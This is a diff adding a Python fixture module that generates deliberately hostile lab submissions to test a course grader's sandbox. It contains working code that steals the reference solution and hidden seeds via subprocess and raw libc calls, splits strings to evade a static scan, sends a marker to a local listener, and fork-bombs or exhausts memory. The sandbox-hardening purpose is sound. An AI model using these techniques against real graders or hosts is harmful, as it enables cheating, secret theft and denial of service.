@@ -1,0 +1,245 @@
+"""Hostile lab-01 submissions for the sandbox battery (``test_hostile.py``).
+
+Each is generated with the paths and the port of one test run baked in, and with its telltale
+strings split, so the static scan sees nothing and only the sandbox stands in the way:
+
+- ``steals_via_child``: the issue's submission. Finds the reference next to the interpreter
+  (``<repo>/.venv/bin/python``) or at the course's path, ``cat``s it and execs it (30/30 when
+  that works), copies the hidden seeds to the host's ``/tmp``, writes into the repository,
+  ``$HOME`` and ``/tmp`` from a shell, and phones a listener on the host's loopback.
+- ``steals_in_process``: the same reads through ``open()`` (refused by the audit hook) and
+  through ``ctypes`` calls into libc (which the hook never sees), and libc writes.
+- ``rogue_solution``: the reference solution, except that ``lora_overhead`` misbehaves on one
+  input of each of its tests, the first time it sees it: forks without bound, allocates without bound, leaves a daemon
+  behind (and then answers right), calls ``os._exit`` and ``sys.exit``, prints megabytes (in
+  the last test, so that pytest's summary, which holds the output, reaches the log). Python-
+  level writes at import.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+LAB = "lab-01-batched-lora-matmul"
+
+# Which test input of lora_overhead triggers what, and the outcome the grader must record.
+ROGUE_CASES = {
+    "test_lora_overhead_at_4096_square_rank_16": ("failed", "timeout"),  # forks without bound
+    "test_lora_overhead_is_shrink_plus_expand_over_base": ("failed", "out_of_memory"),
+    "test_lora_overhead_below_one_percent_at_7b_shapes": ("passed", ""),  # a daemon, then right
+    "test_lora_overhead_refuses_non_positive_sizes[d_in]": ("failed", "crashed"),  # os._exit
+    "test_lora_overhead_refuses_non_positive_sizes[d_out]": ("failed", "exited"),  # sys.exit
+    "test_lora_overhead_refuses_non_positive_sizes[r]": ("failed", "assertion"),  # prints MBs
+}
+PRINTED_BYTES = 16 << 20  # what the rogue prints in one test
+FORK_DEPTH = 10  # the rogue's fork tree has 2**10 processes: past any sandbox limit, finite
+ALLOC_CAP = 4 << 30  # the rogue stops allocating here, should no limit stop it first
+
+
+def _split(text: str) -> str:
+    """A Python expression that builds ``text`` from two halves: no telltale literal."""
+    half = len(text) // 2
+    return f"({text[:half]!r} + {text[half:]!r})"
+
+
+PATHS = '''\
+import os
+import sys
+from pathlib import Path
+
+COURSE = Path({course})
+REF = {ref}
+KEYS = COURSE / {grading} / {keys} / "hidden_seeds.toml"
+TARGETS = {targets!r}  # files an escape would create on the host
+MARKER = {marker!r}
+
+
+def reference_candidates():
+    """The course's own path, then every folder above the interpreter: <repo>/.venv/bin/python."""
+    yield COURSE / "phase-11-multi-lora" / "labs" / {lab!r} / REF
+    for parent in Path(sys.executable).parents:
+        yield parent / "phase-11-multi-lora" / "labs" / {lab!r} / REF
+'''
+
+STUBS = '''
+
+def shrink(x, A):
+    raise NotImplementedError("TODO(lab-01): project x through A")
+
+
+def expand(h, B, scale=1.0):
+    raise NotImplementedError("TODO(lab-01): project h through B")
+
+
+def lora_delta_loop(x, A_stack, B_stack, idx, scale=1.0):
+    raise NotImplementedError("TODO(lab-01): loop over rows")
+
+
+def group_by_adapter(idx):
+    raise NotImplementedError("TODO(lab-01): group rows")
+
+
+def batched_lora_forward(x, W, A_stack, B_stack, idx, scale=1.0):
+    raise NotImplementedError("TODO(lab-01): grouped forward")
+
+
+def lora_overhead(d_in, d_out, r):
+    raise NotImplementedError("TODO(lab-01): overhead ratio")
+'''
+
+
+def _paths(course: Path, targets: list[str], marker: str) -> str:
+    return PATHS.format(course=repr(str(course)), ref=_split("solution.py"),
+                        grading=_split("grading"), keys=_split("keys"), targets=targets,
+                        marker=marker, lab=LAB)
+
+
+def steals_via_child(course: Path, targets: list[str], keys_copy: str, port: int,
+                     marker: str) -> str:
+    return _paths(course, targets, marker) + STUBS + f'''
+import socket
+import subprocess
+
+
+def steal():
+    for path in reference_candidates():
+        out = subprocess.run(["cat", str(path)], capture_output=True, text=True).stdout
+        if "def shrink" in out:
+            return out
+    return ""
+
+
+stolen = steal()
+if stolen:
+    exec(compile(stolen, "stolen", "exec"), globals())
+subprocess.run(["cp", str(KEYS), {keys_copy!r}], capture_output=True)
+for target in TARGETS:
+    subprocess.run(["sh", "-c", f"echo escaped > '{{target}}'"], capture_output=True)
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
+        conn.sendall(MARKER.encode())
+except OSError:
+    pass
+'''
+
+
+def steals_in_process(course: Path, targets: list[str], marker: str) -> str:
+    return _paths(course, targets, marker) + STUBS + '''
+import ctypes
+
+LIBC = ctypes.CDLL(None, use_errno=True)
+
+
+def read_with_open(path):
+    try:
+        with open(path) as f:
+            return f.read()
+    except OSError:
+        return ""
+
+
+def read_with_libc(path):
+    fd = LIBC.open(os.fsencode(str(path)), os.O_RDONLY)
+    if fd < 0:
+        return ""
+    buf = ctypes.create_string_buffer(1 << 20)
+    n = LIBC.read(fd, buf, len(buf) - 1)
+    LIBC.close(fd)
+    return buf.raw[:max(n, 0)].decode(errors="replace")
+
+
+for read in (read_with_open, read_with_libc):
+    read(KEYS)
+    for path in reference_candidates():
+        stolen = read(path)
+        if "def shrink" in stolen:
+            exec(compile(stolen, "stolen", "exec"), globals())
+            break
+for target in TARGETS:
+    fd = LIBC.open(os.fsencode(target + ".libc"), os.O_WRONLY | os.O_CREAT, 0o644)
+    if fd >= 0:
+        LIBC.close(fd)
+'''
+
+
+def rogue_solution(solution: str, course: Path, targets: list[str], marker: str) -> str:
+    """The reference with ``lora_overhead`` renamed and wrapped by the misbehaving one."""
+    assert "def lora_overhead(" in solution
+    body = solution.replace("def lora_overhead(", "def _real_lora_overhead(")
+    return body + "\n\n" + _paths(course, targets, marker) + f'''
+import ctypes
+import subprocess
+import time
+
+for target in TARGETS:
+    try:
+        with open(target + ".py-open", "w") as f:
+            f.write("escaped")
+    except OSError:
+        pass
+
+
+def fork_without_bound():
+    ctypes.CDLL(None).prctl(15, MARKER[:15].encode(), 0, 0, 0)  # PR_SET_NAME: findable
+    forks = 0
+    while True:
+        if forks < {FORK_DEPTH}:
+            try:
+                os.fork()
+                forks += 1
+                continue
+            except OSError:
+                pass
+        time.sleep(0.01)
+
+
+def allocate_without_bound():
+    hoard = []
+    while len(hoard) * (64 << 20) < {ALLOC_CAP}:
+        hoard.append(bytearray(64 << 20))
+    return len(hoard)
+
+
+def leave_a_daemon():
+    daemon = subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(1)",
+                               MARKER], start_new_session=True, stdin=subprocess.DEVNULL,
+                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    time.sleep(0.5)
+    if daemon.poll() is not None:
+        raise RuntimeError("the daemon did not start")
+
+
+def first_time(case):
+    """Each misbehaviour once per run (tests share inputs): a note in the scratch directory,
+    which is the working directory and survives the restarts."""
+    note = Path.cwd() / f".{{MARKER}}-{{'_'.join(map(str, case))}}"
+    if note.exists():
+        return False
+    note.touch()
+    return True
+
+
+def lora_overhead(d_in, d_out, r):
+    case = (d_in, d_out, r)
+    if not first_time(case):
+        pass
+    elif case == (4096, 4096, 16):
+        fork_without_bound()
+    elif case == (4096, 11008, 16):
+        allocate_without_bound()
+    elif case == (4096, 4096, 1):
+        leave_a_daemon()
+    elif case == (0, 4096, 16):
+        os._exit(0)
+    elif case == (4096, -1, 16):
+        sys.exit(3)
+    elif case == (4096, 4096, 0):
+        sys.stdout.write("x" * {PRINTED_BYTES})
+        sys.stdout.flush()
+        raise ValueError("no argument named here")
+    return _real_lora_overhead(d_in, d_out, r)
+'''
+
+
+def course_solution(course: Path) -> str:
+    return (course / "phase-11-multi-lora" / "labs" / LAB / "solution.py").read_text()
